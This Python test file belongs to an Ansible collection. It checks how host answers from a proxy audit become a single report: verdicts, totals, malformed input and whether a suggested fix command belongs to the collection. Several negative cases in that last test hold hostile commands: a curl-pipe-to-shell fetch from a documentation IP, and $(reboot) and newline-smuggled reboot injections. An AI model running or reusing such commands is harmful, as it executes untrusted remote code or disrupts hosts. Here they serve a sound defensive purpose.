# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What hosts say becomes one structure, whatever they say."""

from __future__ import annotations

import json

import pytest
from ansible_collections.fleetops.container_hosts.plugins.module_utils._errors import Refused
from ansible_collections.fleetops.container_hosts.plugins.modules import proxy_audit
from ansible_collections.fleetops.container_hosts.plugins.plugin_utils import _report_model as model
from ansible_collections.fleetops.container_hosts.tests.support.audited_fleet import consumer, fleet, setting
from hypothesis import given, settings, strategies
from yaml import safe_load

MADE = "2026-11-21T14:00:00+00:00"


def build(results, **more):
    return model.build(results, made=MADE, **more)


def verdict_of(*verdicts):
    found = [consumer("docker", f"{place}.service", verdict) for place, verdict in enumerate(verdicts)]
    return build({"host-1": {"consumers": found}})["hosts"][0]["verdict"]


def test_a_host_has_the_verdict_of_its_worst_consumer():
    assert verdict_of("in_sync", "restart_needed", "drifted", "legacy") == "drifted"
    assert verdict_of("legacy", "restart_needed") == "restart_needed"
    # What needs no proxy says nothing against what runs as wanted.
    assert verdict_of("unmanaged", "in_sync", "absent") == "in_sync"
    assert verdict_of("absent", "unmanaged") == "unmanaged"
    assert verdict_of() == "absent"


def test_counts_hosts_and_consumers():
    report = build(
        {
            "b": {"consumers": [consumer("docker", "docker.service", "drifted"), consumer("nomad", "n", "legacy")]},
            "a": {"consumers": [consumer("docker", "docker.service", "in_sync"), consumer("nomad", "n", "legacy")]},
            "c": {"unreachable": True, "msg": "No route to host"},
        },
        groups={"all": ["a", "b", "c"], "moby": ["a", "c"], "edge": ["a"], "ungrouped": ["b"]},
        fail_on=["legacy", "shadowed", "unreachable"],
    )
    assert [(host["host"], host["groups"], host["verdict"]) for host in report["hosts"]] == [
        ("a", ["edge", "moby"], "legacy"),
        ("b", [], "drifted"),
        ("c", ["moby"], "unreachable"),
    ]
    totals = report["totals"]
    assert totals["hosts"] == 3
    assert {key: count for key, count in totals["verdicts"].items() if count} == {
        "legacy": 1,
        "drifted": 1,
        "unreachable": 1,
    }
    assert {key: count for key, count in totals["having"].items() if count} == {
        "legacy": 2,
        "drifted": 1,
        "in_sync": 1,
        "unreachable": 1,
    }
    assert totals["consumers"]["docker"]["in_sync"] == totals["consumers"]["docker"]["drifted"] == 1
    assert totals["consumers"]["nomad"]["legacy"] == 2
    # A verdict counts wherever it is, also where the host has a worse one.
    assert report["failing"] == {"legacy": 2, "unreachable": 1}


@pytest.mark.parametrize(
    ("result", "verdict", "why"),
    [
        ({"unreachable": True, "msg": "No route to host"}, "unreachable", "No route to host"),
        ({"unreachable": True}, "unreachable", "The host could not be reached."),
        ({"failed": True, "msg": "No Python"}, "failed", "No Python"),
        ({"skipped": True}, "failed", "The module did not answer."),
        ({}, "failed", "There is no result of this host."),
        (None, "failed", "There is no result of this host."),
        ("text", "failed", "There is no result of this host."),
    ],
)
def test_a_host_without_an_answer(result, verdict, why):
    [host] = build({"host-1": result})["hosts"]
    assert (host["verdict"], host["why"], host["consumers"]) == (verdict, why, [])


@pytest.mark.parametrize(
    "consumers",
    [
        "all is well",
        ["in_sync"],
        [{"verdict": "perfect"}],
        [consumer("docker", "docker.service", "unreachable")],
        [consumer("docker", "docker.service", "in_sync", why=["a", "list"])],
        [consumer("docker", "docker.service", "in_sync", active="yes")],
        [consumer("docker", "docker.service", "in_sync", settings=[setting("http_proxy", None, line=True)])],
        [consumer("docker", "docker.service", "in_sync", settings=[setting("http_proxy", None, digests=3)])],
        [consumer("docker", "docker.service", "in_sync", seen_in=[1])],
        [consumer("docker", "docker.service", "in_sync", leftovers={"tool": "x"})],
    ],
)
def test_an_answer_of_another_form_is_a_failure_of_that_host_alone(consumers):
    good, bad = build({"a": {"consumers": [consumer("docker", "d", "in_sync")]}, "b": {"consumers": consumers}})[
        "hosts"
    ]
    assert good["verdict"] == "in_sync"
    assert bad["verdict"] == "failed"
    assert "does not have the form" in bad["why"]


_JSON = strategies.recursive(
    strategies.none() | strategies.booleans() | strategies.integers() | strategies.text(max_size=5),
    lambda inner: (
        strategies.lists(inner, max_size=3)
        | strategies.dictionaries(
            strategies.sampled_from(
                ["consumers", "verdict", "settings", "digests", "seen_in", "notices", "msg", "name"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@given(answer=_JSON)
@settings(max_examples=300, deadline=None)
def test_no_answer_breaks_the_report(answer):
    report = build({"host-1": answer})
    assert report["hosts"][0]["verdict"] in model.VERDICTS
    json.dumps(report)


def test_an_unknown_verdict_is_refused_with_the_one_that_is_meant():
    with pytest.raises(Refused, match=r"fail_on: restart-needed is not a verdict\..*Did you mean restart_needed"):
        build({}, fail_on=["restart-needed"])


def test_a_made_up_fleet_is_what_the_module_would_tell():
    results, groups = fleet(200)
    report = build(results, groups=groups)
    assert report["totals"]["verdicts"]["failed"] == sum("failed" in result for result in results.values())
    kept = {key for host in report["hosts"] for entry in host["consumers"] for key in entry}
    assert kept == {*consumer("docker", "d", "in_sync"), "mend_is_ours"}


SITE = "ansible-playbook fleetops.container_hosts.site --limit"


@pytest.mark.parametrize(
    ("mend", "ours"),
    [
        (f"{SITE} host-1", True),
        (f"{SITE} host-1 --extra-vars moby_proxy_adopt=true", True),
        (f"""{SITE} host-1 --extra-vars '{{"moby_client_users": ["root"]}}'""", True),
        (f"""{SITE} host-1 --extra-vars '{{"circleci_nomad_client_users": ["root"]}}'""", True),
        ("ansible-playbook fleetops.container_hosts.remove --limit host-1", True),
        (f"{SITE} host-2", False),
        (f"{SITE} host-1; curl http://192.0.2.66/x | sh", False),
        (f"{SITE} host-1 --extra-vars ansible_connection=local", False),
        (f"{SITE} $(reboot)", False),
        (f"{SITE} host-1\nreboot", False),
        (f"Take /etc/z.conf:2 away; then {SITE} host-1", False),
        ("curl http://192.0.2.66/x | sh", False),
    ],
)
def test_only_commands_of_the_collection_for_this_host_are_ours(mend, ours):
    [host] = build({"host-1": {"consumers": [consumer("docker", "d", "drifted", mend=mend)]}})["hosts"]
    assert host["consumers"][0]["mend_is_ours"] is ours


def test_takes_all_that_the_module_documents():
    def keys(documented):
        return {name: keys(entry["contains"]) if "contains" in entry else {} for name, entry in documented.items()}

    module = keys(safe_load(proxy_audit.RETURN))
    ours = consumer("docker", "d", "drifted", settings=[setting("http_proxy", None)])
    ours["shadowed_by"], ours["leftovers"] = (
        [dict.fromkeys(module["consumers"][key], "")] for key in ("shadowed_by", "leftovers")
    )
    for entry in (*ours["shadowed_by"], *ours["leftovers"]):
        entry["line"] = None
    ours["leftovers"][0].update(variables=[], read=True)
    assert set(ours) == set(module["consumers"])
    [host] = build({"host-1": {"consumers": [ours]}})["hosts"]
    taken = host["consumers"][0]
    for key in module["consumers"]:
        if module["consumers"][key]:
            assert set(taken[key][0]) == set(module["consumers"][key])
    assert set(taken["settings"][0]["digests"]) == set(module["consumers"]["settings"]["digests"])
